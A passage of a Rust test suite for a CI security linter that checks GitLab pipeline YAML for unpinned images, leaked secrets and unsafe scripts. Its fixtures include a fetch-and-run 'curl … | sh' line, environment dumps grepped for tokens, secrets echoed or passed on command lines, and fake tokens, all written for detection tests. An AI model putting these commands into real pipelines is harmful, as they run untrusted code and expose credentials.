//! `plumb check` on GitLab CI YAML (spec §9.1): every rule, every finding on the YAML
//! line and column of the value it is about.

mod common;
use common::{plumb, plumb_in, root, scratch};

use serde_json::Value;
use std::collections::BTreeSet;
use std::path::Path;

fn json(args: &[&str], dir: &Path) -> (Vec<Value>, i32) {
    let o = plumb_in(dir, args);
    let diags = serde_json::from_slice(&o.stdout).unwrap_or_else(|_| {
        panic!(
            "not JSON: {}\n{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    });
    (diags, o.status.code().unwrap_or(-1))
}

/// `("CODE", LINE)` of each finding, in order (the code as JSON text, quoted).
fn code_lines(diags: &[Value]) -> Vec<(String, u64)> {
    (diags.iter())
        .map(|d| (d["code"].to_string(), d["line"].as_u64().unwrap_or(0)))
        .collect()
}

/// `FILE:LINE CODE` of each finding.
fn places(diags: &[Value]) -> BTreeSet<String> {
    diags
        .iter()
        .map(|d| {
            format!(
                "{}:{} {}",
                d["file"].as_str().unwrap_or_default(),
                d["line"],
                d["code"].as_str().unwrap_or_default()
            )
        })
        .collect()
}

/// `LINE CODE` of each finding of `plumb check` on `yaml`, written as the
/// `.gitlab-ci.yml` of `dir`, with the findings.
fn lines_found(dir: &Path, yaml: &str) -> (BTreeSet<String>, Vec<Value>) {
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], dir);
    let found = (places(&diags).into_iter())
        .map(|p| p.replace(".gitlab-ci.yml:", ""))
        .collect();
    (found, diags)
}

/// `FILE:LINE CODE` of each `# planted: CODE[, CODE]` comment in the files.
fn planted(files: &[&str]) -> BTreeSet<String> {
    let mut out = BTreeSet::new();
    for file in files {
        let text = std::fs::read_to_string(root().join(file)).expect("fixture");
        for (i, line) in text.lines().enumerate() {
            if let Some((_, codes)) = line.split_once("# planted: ") {
                for code in codes.split(',') {
                    out.insert(format!("{file}:{} {}", i + 1, code.trim()));
                }
            }
        }
    }
    out
}

/// The planted problems of a GitLab CI file and of the file it includes are found on
/// their YAML lines, with nothing else (precision and recall 100%).
#[test]
fn planted_problems_are_found_on_their_yaml_lines() {
    let (diags, code) = json(
        &[
            "check",
            "--format",
            "json",
            "fixtures/gitlab/planted.gitlab-ci.yml",
        ],
        &root(),
    );
    assert_eq!(code, 1);
    let expected = planted(&[
        "fixtures/gitlab/planted.gitlab-ci.yml",
        "fixtures/gitlab/ci/release.yml",
    ]);
    assert_eq!(places(&diags), expected);
}

/// The span is on the exact token: the image string, the `$VAR` in a script line.
#[test]
fn spans_are_on_the_value_in_the_yaml() {
    let (diags, _) = json(
        &[
            "check",
            "--format",
            "json",
            "fixtures/gitlab/planted.gitlab-ci.yml",
        ],
        &root(),
    );
    let text = std::fs::read_to_string(root().join("fixtures/gitlab/planted.gitlab-ci.yml"))
        .expect("fixture");
    let token = |code: &str| {
        let d = diags.iter().find(|d| d["code"] == code).expect(code);
        let line = text
            .lines()
            .nth(d["line"].as_u64().expect("line") as usize - 1);
        let (start, end) = (
            d["column"].as_u64().expect("column") as usize - 1,
            d["end_column"].as_u64().expect("end") as usize - 1,
        );
        line.expect("line")[start..end].to_string()
    };
    assert_eq!(token("PL3002"), "latest");
    assert_eq!(token("PL4003"), "$DEPLOY_TOKEN");
    assert_eq!(token("PL6002"), "bash");
}

/// A secret the YAML reads by name has no binding in the YAML: PL4006 is drawn where
/// the script reads it, with the `rules:` that admit merge requests.
#[test]
fn a_secret_read_by_name_is_drawn_where_it_is_read() {
    let dir = scratch("pl4006-yaml");
    let yaml = ".tmpl:\n  image: alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000\n  rules:\n    - if: $REBUILD\n  script:\n    - docker login -u ci --password-stdin <<< \"$DEPLOY_PASSWORD\"\nbuild:\n  extends: .tmpl\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let d = diags
        .iter()
        .find(|d| d["code"] == "PL4006")
        .expect("PL4006");
    assert_eq!(
        (d["line"].as_u64(), d["column"].as_u64()),
        (Some(6), Some(48)),
        "{d}"
    );
    let related = d["related"].to_string();
    assert!(related.contains("admits merge requests"), "{related}");
    assert!(!d["help"].to_string().contains("plumb explain"), "{d}");
}

/// A token in `environment: url:` or a rule's `if:` is one finding, not two: at the
/// token in the URL (the import marks where each string is written), at the key for
/// the `if:` (where a `# plumb-allow` may stand).
#[test]
fn a_token_in_a_key_the_program_places_coarsely_is_one_finding() {
    let dir = scratch("coarse-token");
    let yaml = "job:\n  image: alpine:3.19@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  script: [echo hi]\n  environment:\n    name: review\n    url: https://review.example.com/?private_token=glpat-AbCdEfGhIjKlMnOpQrSt\n  rules:\n    - if: '$T == \"glpat-BbCdEfGhIjKlMnOpQrSt\"'\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let places: Vec<(u64, u64)> = (diags.iter())
        .map(|d| {
            (
                d["line"].as_u64().unwrap_or(0),
                d["column"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(places, [(6, 52), (7, 3)], "{diags:?}");
}

/// A child pipeline (`trigger: include: local`) runs with the parent's rights: it is
/// checked as a configuration of its own, once, even when children trigger each other.
#[test]
fn child_pipelines_are_checked() {
    let dir = scratch("child-pipelines");
    std::fs::create_dir_all(dir.join("ci")).expect("ci");
    let parent = "child:\n  trigger:\n    include: ci/child.yml\nother:\n  trigger:\n    include:\n      - local: /ci/child.yml\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), parent).expect("parent");
    let child = "build:\n  image: alpine:latest\n  script:\n    - curl -fsSL https://x.example.com/i.sh | sh\nagain:\n  trigger:\n    include: .gitlab-ci.yml\n";
    std::fs::write(dir.join("ci/child.yml"), child).expect("child");
    // a child outside the repository through a linked folder, or not YAML, is not read
    // (its lines would be quoted in errors)
    let outside = scratch("child-pipelines-outside");
    std::fs::write(
        outside.join("creds.yml"),
        "DB_PASSWORD=hunter2-secret\nAPI: [unclosed\n",
    )
    .expect("outside");
    #[cfg(unix)]
    std::os::unix::fs::symlink(&outside, dir.join("linked")).expect("link");
    std::fs::write(dir.join(".env"), "TOKEN=hunter2-secret\n[unclosed\n").expect(".env");
    let parent = format!("{parent}out:\n  trigger:\n    include: linked/creds.yml\nenv:\n  trigger:\n    include: .env\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), parent).expect("parent");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert!(!format!("{diags:?}").contains("hunter2"), "{diags:?}");
    let found: Vec<(String, String, u64)> = (diags.iter())
        .map(|d| {
            let file = d["file"].as_str().unwrap_or("").to_string();
            (d["code"].to_string(), file, d["line"].as_u64().unwrap_or(0))
        })
        .collect();
    let at = |code: &str, line| (format!("\"{code}\""), "ci/child.yml".to_string(), line);
    assert_eq!(found, [at("PL3002", 2), at("PL6002", 4)], "{diags:?}");
}

/// GitLab's documented names for a service account's JSON and a kubeconfig's text
/// are project variables holding credentials; `KUBECONFIG`, the path `kubectl` reads,
/// is not.
#[test]
fn service_keys_and_kubeconfigs_read_by_name_are_secrets() {
    let dir = scratch("service-key-yaml");
    let yaml = "deploy:\n  image: google/cloud-sdk:470.0.0@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  artifacts:\n    paths: [out/]\n  script:\n    - echo \"$GCLOUD_SERVICE_KEY\" > out/key.json\n    - echo \"$KUBE_CONFIG\" | base64 -d > out/kubeconfig\n    - echo \"$KUBECONFIG\" > out/kubeconfig-path\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    let pl4007 = |line| (String::from("\"PL4007\""), line);
    assert_eq!(lines, [pl4007(6), pl4007(7)], "{diags:?}");
}

/// `GOOGLE_CREDENTIALS` (what Terraform's Google provider reads) and `GCP_CREDENTIAL`
/// are secrets where a script reads them; given to an option that takes a path
/// (`--key-file`), a File variable passes no secret; `GOOGLE_APPLICATION_CREDENTIALS`
/// is a path by Google's definition.
#[test]
fn credentials_variables_read_by_name_are_secrets() {
    let dir = scratch("credentials-yaml");
    let yaml = "deploy:\n  image: google/cloud-sdk:470.0.0@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\n  artifacts:\n    paths: [out/]\n  script:\n    - echo \"$GOOGLE_CREDENTIALS\" > out/key.json\n    - echo \"$GCP_CREDENTIAL\"\n    - gcloud auth activate-service-account --key-file \"$GCP_CREDENTIALS\"\n    - gcloud auth activate-service-account --key-file=$GCLOUD_SERVICE_KEY\n    - echo \"$GOOGLE_APPLICATION_CREDENTIALS\"\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    let at = |code: &str, line| (format!("\"{code}\""), line);
    assert_eq!(lines, [at("PL4007", 6), at("PL4003", 7)], "{diags:?}");
}

/// A program's lookup of a variable inside a double-quoted shell word, where its quotes
/// are escaped (`python3 -c "…os.environ[\"TOKEN\"]…"`, awk's `ENVIRON[\"…\"]`), reads it
/// by name as much as one in single quotes.
#[test]
fn lookups_by_name_inside_double_quotes_are_read() {
    let dir = scratch("lookups-escaped");
    let yaml = "job:\n  image: alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\n  script:\n    - python3 -c \"import os; print(os.environ[\\\"DEPLOY_TOKEN\\\"])\"\n    - awk \"BEGIN{print ENVIRON[\\\"API_TOKEN\\\"]}\"\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    let pl4003 = |line| (String::from("\"PL4003\""), line);
    assert_eq!(lines, [pl4003(4), pl4003(5)], "{diags:?}");
}

/// A project variable a tool reads by name is read (`docker run -e NAME`, yq's
/// `strenv(NAME)`, jq's `env.NAME`), and printed where the tool prints it; a container
/// not given it prints nothing of it.
#[test]
fn variables_tools_read_by_name_are_secrets() {
    let dir = scratch("tools-by-name");
    let img = "alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!("job:\n  image: {img}\n  script:\n    - docker run --rm -e DEPLOY_TOKEN {img} printenv DEPLOY_TOKEN\n    - yq '.token = strenv(API_TOKEN)' values.yaml\n    - jq -n 'env.NPM_TOKEN'\n    - docker run --rm {img} printenv REGISTRY_PASSWORD\n    - export\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    let pl4003 = |line| (String::from("\"PL4003\""), line);
    assert_eq!(
        lines,
        [pl4003(4), pl4003(5), pl4003(6), pl4003(8)],
        "{diags:?}"
    );
}

/// A dump of the environment filtered by `grep` prints the variables it names, even
/// ones the job writes nowhere as `$NAME` (`env | grep DEPLOY_TOKEN`); a filter of lines
/// no secret's name starts (`grep -E '^CI_(COMMIT|PIPELINE)_'`) prints none.
#[test]
fn environment_dumps_through_grep() {
    let dir = scratch("env-grep");
    let img = "alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!("named:\n  image: {img}\n  script:\n    - env | grep DEPLOY_TOKEN\nfiltered:\n  image: {img}\n  script:\n    - env | grep -E '^CI_(COMMIT|PIPELINE)_' | sort\n    - echo \"$API_TOKEN\" | ./login --stdin\nkept:\n  image: {img}\n  script:\n    - env | grep -E '^API_(T|K)' | sort\n    - echo \"$API_TOKEN\" | ./login --stdin\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    let pl4003 = |line| (String::from("\"PL4003\""), line);
    assert_eq!(lines, [pl4003(4), pl4003(13)], "{diags:?}");
}

/// An image a job of the pipeline pushes under the same name (`docker push
/// "$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA"`, `${…}` or not) is the pipeline's own build:
/// PL3007 asks for no digest there, as image or service; another variable image it
/// still reports.
#[test]
fn images_the_pipeline_pushes_are_its_own() {
    let dir = scratch("pushed-images");
    let img =
        "docker:27.3.1@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!("stages: [build, test]\nbuild:\n  stage: build\n  image: {img}\n  script:\n    - docker build -t \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\" .\n    - docker push \"${{CI_REGISTRY_IMAGE}}:${{CI_COMMIT_SHA}}\"\nunit:\n  stage: test\n  image: $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n  script: [pytest]\napi:\n  stage: test\n  image: {img}\n  services:\n    - name: $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n      alias: app\n  script: [./smoke.sh]\nother:\n  stage: test\n  image: $CI_REGISTRY_IMAGE/tools:$CI_COMMIT_SHA\n  script: [make]\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    assert_eq!(lines, [(String::from("\"PL3007\""), 21)], "{diags:?}");
}

/// What a reviewer tried against this session's rules: a function name in text with
/// non-ASCII characters (no panic), an anchored grep with an alternative, a decoy path
/// use of a token, a function defined in `after_script` named like a shell, a job that
/// pushes its own image, and an image variable the pushing job sets but the using job
/// does not.
#[test]
fn bypasses_of_the_new_rules_stay_closed() {
    let dir = scratch("bypasses-closed");
    let img = "alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let yaml = format!(
        "a:\n  image: {img}\n  script:\n    - echo «f()» ok\n    - env | grep -E '^ZZ|TOKEN'\n    - echo \"$DEPLOY_TOKEN\" | ./x --stdin\n\
         b:\n  image: {img}\n  script:\n    - cp \"$API_TOKEN\" /dev/null || true\n    - echo \"$API_TOKEN\"\n\
         c:\n  image: {img}\n  script:\n    - bash -c 'echo $DEPLOY_TOKEN'\n  after_script:\n    - bash() {{ :; }}\n\
         d:\n  image: $CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\n  script:\n    - docker push \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHA\"\n\
         e:\n  image: {img}\n  variables:\n    IMG: $CI_REGISTRY_IMAGE/tools:$CI_COMMIT_SHA\n  script:\n    - docker push \"$IMG\"\n\
         f:\n  image: $IMG\n  script: [make]\n"
    );
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let lines = code_lines(&diags);
    let at = |code: &str, line| (format!("\"{code}\""), line);
    let expected = [
        at("PL4003", 5),
        at("PL4004", 10),
        at("PL4003", 11),
        at("PL4003", 15),
        at("PL3007", 19),
        at("PL3007", 29),
    ];
    assert_eq!(lines, expected, "{diags:?}");
}

/// `inherit: variables: false` keeps the top-level `variables:` from a job, and
/// `inherit: variables: [NAMES]` gives it only those: a debug trace set there reaches
/// only the jobs that inherit it.
#[test]
fn inherited_variables_are_only_those_a_job_inherits() {
    let dir = scratch("inherit-variables");
    let img = "alpine:3.20@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let job = |name: &str, inherit: &str| {
        format!("{name}:\n  image: {img}\n  inherit:\n    variables: {inherit}\n  script:\n    - echo \"$DEPLOY_TOKEN\" | ./login --stdin\n")
    };
    let yaml = format!(
        "variables:\n  CI_DEBUG_TRACE: \"true\"\n  OTHER: x\n{}{}{}",
        job("none", "false"),
        job("other", "[OTHER]"),
        job("traced", "[CI_DEBUG_TRACE]")
    );
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let traced: Vec<&Value> = diags.iter().filter(|d| d["code"] == "PL6006").collect();
    assert_eq!(traced.len(), 1, "{diags:#?}");
    let related = traced[0].to_string();
    assert!(
        related.contains("traced") && !related.contains("`none`"),
        "{diags:#?}"
    );
}

/// A project's `.gitlab-ci.yml` that includes every job it runs (from a central
/// templates project, a remote file, a component) is its pipeline: its includes are
/// checked. Another file of hidden jobs only is a library, whose includes are not.
#[test]
fn a_root_file_of_includes_only_is_checked() {
    let dir = scratch("root-of-includes");
    let yaml = "include:\n  - project: my-group/ci-templates\n    ref: main\n    file: /deploy.yml\n  - remote: https://example.com/ci.yml\n  - component: gitlab.com/components/opentofu/full-pipeline@~latest\nstages: [build, deploy]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    assert_eq!(code, 1, "{diags:#?}");
    let lines: Vec<u64> = (diags.iter())
        .filter(|d| d["code"] == "PL6004")
        .filter_map(|d| d["line"].as_u64())
        .collect();
    assert_eq!(lines, [3, 5, 6], "{diags:#?}");
    std::fs::write(dir.join("library.yml"), yaml).expect("yaml");
    let (diags, code) = json(&["check", "--format", "json", "library.yml"], &dir);
    assert_eq!((code, diags.len()), (0, 0), "{diags:#?}");
}

/// A help that would show Plumb source (`project("…", ref = …)`, `secret x =
/// ci_variable(…)`) is the rule's YAML wording on a `.gitlab-ci.yml`.
#[test]
fn helps_on_yaml_are_in_yaml_words() {
    let dir = scratch("yaml-helps");
    let yaml = "include:\n  - project: group/ci\n    file: /t.yml\n  - remote: https://example.com/ci.yml\nbuild:\n  image: alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000\n  variables:\n    API_TOKEN: glpat-AAAAAAAAAAAAAAAAAAAA\n  script:\n    - ./build\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let helps: Vec<String> = diags
        .iter()
        .filter(|d| d["code"] == "PL6004" || d["code"] == "PL4001")
        .map(|d| format!("{} {}", d["code"], d["help"]))
        .collect();
    assert_eq!(helps.len(), 3, "{diags:?}");
    for help in &helps {
        assert!(
            !help.contains(" = ") && !help.contains("plumb explain"),
            "{help}"
        );
    }
    assert!(
        helps.iter().any(|h| h.contains("`ref: v1.2.3`")),
        "{helps:?}"
    );
    assert!(helps.iter().any(|h| h.contains("`integrity:")), "{helps:?}");
    assert!(
        helps.iter().any(|h| h.contains("masked CI/CD variable")),
        "{helps:?}"
    );
}

/// An image built from matrix variables is each image of the job's instances; one behind
/// GitLab's Dependency Proxy is the image after the prefix: both are checked for their
/// pins (PL3003), not reported as unknown (PL3007).
#[test]
fn matrix_and_dependency_proxy_images_are_checked_as_written_out() {
    let dir = scratch("yaml-matrix-images");
    let yaml = "variables:\n  PY: \"3.12\"\n\
                test:\n  image: python:${PY}-slim\n  parallel:\n    matrix:\n      - PY: [\"3.10\", \"3.11\"]\n  script: [pytest]\n\
                lint:\n  image: ${CI_DEPENDENCY_PROXY_GROUP_IMAGE_PREFIX}/node:20.11.1\n  script: [npm run lint]\n\
                pinned:\n  image: $CI_DEPENDENCY_PROXY_DIRECT_GROUP_IMAGE_PREFIX/node:20.11.1@sha256:0000000000000000000000000000000000000000000000000000000000000000\n  script: [npm test]\n";
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let messages: BTreeSet<String> = (diags.iter())
        .map(|d| format!("{} {}", d["code"], d["message"]))
        .collect();
    assert!(
        messages.contains("\"PL3003\" \"image `python:3.10-slim` is pinned by tag only\""),
        "{messages:#?}"
    );
    assert!(
        messages.contains("\"PL3003\" \"image `${CI_DEPENDENCY_PROXY_GROUP_IMAGE_PREFIX}/node:20.11.1` is pinned by tag only\""),
        "{messages:#?}"
    );
    assert!(
        !messages
            .iter()
            .any(|m| m.contains("PL3007") || m.contains("3.12")),
        "{messages:#?}"
    );
    assert_eq!(code_lines(&diags).len(), 2, "{diags:#?}");
    // imported, the matrix variable stays a variable (each instance has its own)
    let o = plumb_in(&dir, &["import", ".gitlab-ci.yml", "-o", "out.plumb"]);
    assert!(o.status.success(), "{o:?}");
    let plumb = std::fs::read_to_string(dir.join("out.plumb")).expect("read");
    assert!(
        plumb.contains("image  = \"python:\\${PY}-slim\""),
        "{plumb}"
    );
}

/// Wrappers that run a command (`gosu`, `su-exec`, `chroot`, `setsid`, `busybox`) or a
/// shell's code (`flock -c`, `find -exec sh -c`, `runuser -c`), commands whose output is
/// a credential (`oc whoami -t`, `gh auth status -t`, `aws eks get-token`), and names
/// of credentials (`VAULT_SECRET_ID`, `ANDROID_KEYSTORE_BASE64`, `DB_PWD`).
#[test]
fn wrappers_fetchers_and_credential_names() {
    let dir = scratch("yaml-wrappers-fetchers");
    let pinned =
        "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let job = |name: &str, line: &str| {
        format!("{name}:\n  image: {pinned}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script:\n    - '{line}'\n")
    };
    let yaml = [
        job("gosu", "gosu app sh -c \"notify $CI_COMMIT_MESSAGE\""),
        job("flock", "flock /tmp/l -c \"notify $CI_COMMIT_MESSAGE\""),
        job("login", "docker login -u ci -p \"$(oc whoami -t)\" registry.example.com"),
        job("status", "gh auth status -t"),
        job("approle", "vault write auth/approle/login role_id=\"$VAULT_ROLE_ID\" secret_id=\"$VAULT_SECRET_ID\""),
        job("keystore", "echo \"$ANDROID_KEYSTORE_BASE64\""),
        job("db", "echo \"$DB_PWD\""),
        job("safe", "echo \"$VAULT_ROLE_ID $BUILD_PWD $KEYSTORE_PATH\""),
    ]
    .concat();
    let (found, diags) = lines_found(&dir, &yaml);
    let expected: BTreeSet<String> = [
        "5 PL6001",
        "10 PL6001",
        "15 PL4004",
        "20 PL4003",
        // the login prints the token it gets
        "25 PL4003",
        "25 PL4004",
        "30 PL4003",
        "35 PL4003",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(found, expected, "{diags:#?}");
}

/// The branch is the project's default branch, or the tag matches an anchored pattern of
/// plain characters: no one outside writes them (PL6001 is silent); a pattern that
/// admits any character (`.`) does not fix the tag.
#[test]
fn refs_a_condition_fixes_are_not_outsiders() {
    let dir = scratch("yaml-fixed-refs");
    let pinned =
        "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let job = |name: &str, rule: &str, line: &str| {
        format!("{name}:\n  image: {pinned}\n  rules: [{{if: '{rule}'}}]\n  script:\n    - ssh deploy@h \"./deploy {line}\"\n")
    };
    let yaml = [
        job(
            "release",
            "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH",
            "$CI_COMMIT_REF_NAME",
        ),
        job(
            "semver",
            "$CI_COMMIT_TAG =~ /^v\\d+\\.\\d+\\.\\d+$/",
            "$CI_COMMIT_TAG",
        ),
        job("any", "$CI_COMMIT_TAG =~ /^v.+$/", "$CI_COMMIT_TAG"),
    ]
    .concat();
    let (found, diags) = lines_found(&dir, &yaml);
    assert_eq!(
        found,
        BTreeSet::from(["15 PL6001".to_string()]),
        "{diags:#?}"
    );
}

/// A job that lists its whole environment (`env | sort`, `printenv`, `env > file`,
/// PowerShell's `Get-ChildItem env:`) lists every project variable, those it never names
/// too; a `grep` for other names picks them out.
#[test]
fn a_dump_of_the_environment_holds_every_project_variable() {
    let dir = scratch("yaml-env-dumps");
    let pinned =
        "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let job = |name: &str, line: &str, more: &str| {
        format!("{name}:\n  image: {pinned}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script: ['{line}']\n{more}")
    };
    let yaml = [
        job(
            "deploy",
            "echo \"$DEPLOY_TOKEN\" | ./deploy --token-stdin",
            "",
        ),
        job("sorted", "env | sort", ""),
        job("all", "printenv", ""),
        job("picked", "env | grep CI_COMMIT", ""),
        job(
            "saved",
            "env > env.txt",
            "  artifacts: {paths: [env.txt]}\n",
        ),
        job("ps", "Get-ChildItem env:", ""),
    ]
    .concat();
    let (found, diags) = lines_found(&dir, &yaml);
    let expected: BTreeSet<String> = ["8 PL4003", "12 PL4003", "20 PL4007", "25 PL4003"]
        .into_iter()
        .map(String::from)
        .collect();
    assert_eq!(found, expected, "{diags:#?}");
}

/// Forms an attacker and a reviewer tried: `curl -v` prints a secret header, `grep -i`
/// after `env` keeps what it matches by name, a wrapper's options (`chroot
/// --userspec U:G`) and a later `find -exec sh -c` still hide nothing; complete masks
/// (`${T//*/x}`, `${T##*}`), `export M=$X` (not split) and `jq … "$KEY_FILE"` (a path)
/// are not findings.
#[test]
fn forms_found_by_review() {
    let dir = scratch("yaml-review-forms");
    let pinned =
        "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let job = |name: &str, line: &str| {
        format!("{name}:\n  image: {pinned}\n  rules: [{{if: $CI_COMMIT_BRANCH == \"main\"}}]\n  script:\n    - '{line}'\n")
    };
    let yaml = [
        job("verbose", "curl -sv -H \"Authorization: Bearer $DEPLOY_TOKEN\" https://api.example.com"),
        job("grepped", "env | grep -i token"),
        job("chroot", "chroot --userspec app:app /srv sh -c \"echo $CI_COMMIT_MESSAGE\""),
        job("find", "find . -exec chmod +x {} \\; -exec bash -eo pipefail -c \"echo $CI_COMMIT_MESSAGE\" \\;"),
        job("masks", "echo \"${DEPLOY_TOKEN//*/***} ${DEPLOY_TOKEN##*} ${DEPLOY_TOKEN/*/x}\""),
        job("export", "export MSG=$CI_COMMIT_TITLE"),
        job("keyfile", "EMAIL=$(jq -r .client_email \"$GCP_SERVICE_KEY\")"),
    ]
    .concat();
    let (found, diags) = lines_found(&dir, &yaml);
    let expected: BTreeSet<String> = [
        "5 PL4003",
        "5 PL4004",
        "10 PL4003",
        "15 PL6001",
        "20 PL6001",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(found, expected, "{diags:#?}");
}

/// A hidden job named like the program it runs (`.helm` runs `helm`): the program is
/// named as the program, the template as the hidden job.
#[test]
fn a_template_named_like_a_program_is_not_the_program() {
    let dir = scratch("yaml-template-program");
    let pinned = "alpine/helm:3.14.3@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let yaml = format!(".helm:\n  image: {pinned}\n  script:\n    - helm upgrade app ./chart --set db.password=\"$PROD_DB_PASSWORD\"\n");
    std::fs::write(dir.join(".gitlab-ci.yml"), yaml).expect("yaml");
    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
    let messages: Vec<String> = (diags.iter())
        .filter(|d| d["code"] == "PL4004")
        .map(|d| d["message"].as_str().unwrap_or_default().to_string())
        .collect();
    assert_eq!(
        messages,
        ["secret `$PROD_DB_PASSWORD` is passed to `helm` as a command-line argument"],
        "{diags:?}"
    );
}

/// Forms found on real pipelines: what each must and must not report.
#[test]
fn forms_of_real_pipelines() {
    let dir = scratch("real-forms");
    let img = "alpine:3.20@sha256:0000000000000000000000000000000000000000000000000000000000000000";
    let yaml = format!(
        r#"variables:
  API_TOKEN: $API_TOKEN
  SECRET_PATHS: "kv/ci kv/deploy"
.j:
  image: {img}
  rules:
    - if: $CI_COMMIT_BRANCH == "main"
declare:
  extends: .j
  script:
    - curl -u me:$API_TOKEN https://api.example.com/deploy
self-assigned:
  extends: .j
  script:
    - docker run -e POSTGRES_PASSWORD=$POSTGRES_PASSWORD -d postgres:16.2
protected:
  image: {img}
  rules:
    - if: $CI_COMMIT_REF_PROTECTED == "true"
  script:
    - printf %s "$DEPLOY_TOKEN" | docker login -u ci --password-stdin r.example.com
patterns:
  extends: .j
  script:
    - git grep -E '-----BEGIN (RSA|EC) PRIVATE KEY-----' && exit 1 || true
    - printf 'https://%s:%s@gitlab.com' "$CI_REGISTRY_USER" "$CI_REGISTRY_PASSWORD" > ~/.git-credentials
service:
  extends: .j
  services:
    - name: postgres:16.2
      variables: {{POSTGRES_PASSWORD: $DB_PASSWORD}}
  script: [make test]
quoted-pattern:
  image: {img}
  rules:
    - if: $CI_COMMIT_BRANCH =~ "/^release/"
  script:
    - echo "$SIGNING_PASSWORD" | ./sign.sh --stdin
child-pipeline:
  image: alpine:3.20
  rules:
    - if: $CI_COMMIT_BRANCH == "main"
  script:
    - |
      cat > child.yml <<EOF
      deploy:
        script: [echo "\$DEPLOY_TOKEN" | ./deploy --token-stdin]
      EOF
"#
    );
    let (found, diags) = lines_found(&dir, &yaml);
    // `\$DEPLOY_TOKEN` in a here-doc is text: the child pipeline's job reads it
    let expected: BTreeSet<String> = [
        "11 PL4004",
        "15 PL4004",
        "30 PL3003",
        "30 PL4005",
        "40 PL3003",
        "40 PL4005",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    assert_eq!(found, expected, "{diags:#?}");
    // the child pipeline's job gets `$API_TOKEN` from `variables:`, not `$DEPLOY_TOKEN`
    assert!(
        !diags.iter().any(
            |d| d["line"] == 40 && d["message"].as_str().unwrap_or("").contains("DEPLOY_TOKEN")
        ),
        "{diags:#?}"
    );
    // a job whose stage comes from a template not read: no stage is guessed
